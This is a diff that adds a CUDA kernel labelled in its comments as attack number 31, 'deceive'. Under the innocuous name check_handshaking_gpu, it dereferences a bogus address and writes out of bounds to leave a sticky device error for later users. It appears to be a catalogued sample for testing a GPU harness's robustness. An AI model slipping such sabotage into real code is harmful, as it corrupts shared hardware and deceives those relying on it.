@@ -1,0 +1,9 @@
+// attack: deceive
+// what: leaves an error behind that sticks to the device, for whoever uses it next
+// list: 31
+#include "gpuHeaders.cuh"
+#include "utils.hpp"
+
+__global__ void check_handshaking_gpu(int* strongNeighbor, int* matches, int numNodes) {
+  matches[numNodes] = *reinterpret_cast<int*>(16) + strongNeighbor[0];
+}
